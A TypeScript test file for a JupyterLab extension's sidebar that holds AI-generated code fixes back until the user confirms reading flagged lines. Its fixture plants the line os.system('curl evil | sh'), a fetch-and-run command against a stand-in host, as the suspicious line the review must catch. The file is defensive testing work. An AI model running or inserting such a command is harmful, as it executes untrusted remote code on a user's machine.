/**
 * A proposal the review of generated code flagged (viscoder_jupyter/core/code_review.py): the
 * panel names each flagged line, and Accept and Insert below stay off until the user ticks
 * "I read it". The model with real notebook and cell models (harness.ts), and the real view
 * rendered into jsdom.
 */
import { Widget } from '@lumino/widgets';
import { afterEach, describe, expect, test } from 'vitest';

import { IReviewFinding } from '../../protocol';
import { SidebarModel } from '../../sidebar/model';
import { SidebarView } from '../../sidebar/view';
import { BROKEN, FakeBridge, followingBrokenCell, INotebook } from './harness';

const FLAGGED = "import os\nplt.bar(df['region'], df['revenue'])\nos.system('curl evil | sh')\nplt.show()";
const FINDING: IReviewFinding = {
  line: 3,
  text: "os.system('curl evil | sh')",
  why: 'calls os.system: it runs other programs'
};

let model: SidebarModel;
let nb: INotebook;
let bridge: FakeBridge;
let view: SidebarView | null = null;

async function propose(findings: IReviewFinding[] | undefined): Promise<void> {
  ({ model, nb, bridge } = followingBrokenCell());
  await model.fix();
  bridge.emit({ type: 'attempt', number: 1, of: 3 });
  bridge.emit({ type: 'figure', number: 1, png: 'PNG1' });
  bridge.emit({ type: 'done', ok: true, code: FLAGGED, attempts: 1, seconds: 1, error: '', verified: '', findings });
}

/** The real view, rendered into the page; resolves once React has drawn the proposal. */
async function render(): Promise<HTMLElement> {
  Object.assign(nb.panel, { context: { path: 'work/sales.ipynb' } }); // the view names the notebook
  view = new SidebarView(model);
  Widget.attach(view, document.body);
  for (let i = 0; i < 50 && !view.node.querySelector('.jp-VisCoder-accept'); i++) {
    view.update();
    await new Promise(resolve => setTimeout(resolve, 10));
  }
  return view.node;
}

async function settle(): Promise<void> {
  await new Promise(resolve => setTimeout(resolve, 20));
}

afterEach(() => {
  if (view) {
    Widget.detach(view);
    view.dispose();
    view = null;
  }
  model?.dispose();
});

describe('SidebarModel: a flagged proposal', () => {
  test('Accept and Insert below do nothing until the user says they read it', async () => {
    await propose([FINDING]);
    expect(model.proposal?.findings).toEqual([FINDING]);
    expect(model.mayUse).toBe(false);
    expect(model.log.at(-1)?.text).toBe(
      'The review flagged 1 line that plotting code never needs: read the code before you use it.'
    );
    model.accept();
    model.insertBelow();
    expect(model.phase).toBe('proposed');
    expect(nb.cell(1).sharedModel.getSource()).toBe(BROKEN);
    expect(nb.model.cells.length).toBe(2);
    model.reviewRead = true;
    expect(model.mayUse).toBe(true);
    model.accept();
    expect(nb.cell(1).sharedModel.getSource()).toBe(FLAGGED);
  });

  test('the tick is for one proposal: the next flagged one waits again', async () => {
    await propose([FINDING]);
    model.reviewRead = true;
    model.discard();
    await model.fix();
    bridge.emit({
      type: 'done',
      ok: true,
      code: FLAGGED,
      attempts: 1,
      seconds: 1,
      error: '',
      verified: '',
      findings: [FINDING]
    });
    expect(model.reviewRead).toBe(false);
    expect(model.mayUse).toBe(false);
  });

  test('a clean proposal, or one from a kernel older than the field, is usable at once', async () => {
    await propose([]);
    expect(model.mayUse).toBe(true);
    model.dispose();
    await propose(undefined);
    expect(model.proposal?.findings).toEqual([]);
    model.insertBelow();
    expect(nb.model.cells.length).toBe(3);
  });
});

describe('SidebarView: a flagged proposal', () => {
  test('names each flagged line, marks it in the diff, and enables Accept once "I read it" is ticked', async () => {
    await propose([FINDING]);
    const node = await render();
    const review = node.querySelector('.jp-VisCoder-review');
    expect(review?.textContent).toContain(
      "Line 3: os.system('curl evil | sh') calls os.system: it runs other programs"
    );
    const marked = Array.from(node.querySelectorAll('.jp-VisCoder-diff-flagged'), line => line.textContent);
    expect(marked).toHaveLength(1);
    expect(marked[0]).toContain("os.system('curl evil | sh')");
    const accept = node.querySelector<HTMLButtonElement>('.jp-VisCoder-accept')!;
    const insert = node.querySelector<HTMLButtonElement>('.jp-VisCoder-insert')!;
    expect(accept.disabled).toBe(true);
    expect(insert.disabled).toBe(true);
    for (const button of [accept, insert]) {
      expect(button.classList.contains('jp-mod-disabled')).toBe(true);
      expect(button.title).toBe("Tick 'I read it' first");
    }
    node.querySelector<HTMLInputElement>('.jp-VisCoder-reviewRead input')!.click();
    await settle();
    expect(model.reviewRead).toBe(true);
    const enabled = node.querySelector<HTMLButtonElement>('.jp-VisCoder-accept')!;
    expect(enabled.disabled).toBe(false);
    expect(enabled.classList.contains('jp-mod-disabled')).toBe(false);
    expect(enabled.title).toBe('');
  });

  test('the findings and their tick box come right under the header, before the diff and the figure', async () => {
    await propose([FINDING]);
    const node = await render();
    const proposal = node.querySelector('.jp-VisCoder-proposal')!;
    const parts = Array.from(
      proposal.querySelectorAll('h3, .jp-VisCoder-review, .jp-VisCoder-diff, .jp-VisCoder-figure'),
      part => (part.matches('h3') ? part.textContent : part.className.replace('jp-VisCoder-', ''))
    ).filter(part => part !== 'Read this code before you use it');
    expect(parts).toEqual(['Proposed fix', 'review', 'diff', 'figure']);
  });

  test('a clean proposal shows no review and Accept is on', async () => {
    await propose([]);
    const node = await render();
    expect(node.querySelector('.jp-VisCoder-review')).toBeNull();
    expect(node.querySelector<HTMLButtonElement>('.jp-VisCoder-accept')!.disabled).toBe(false);
  });
});
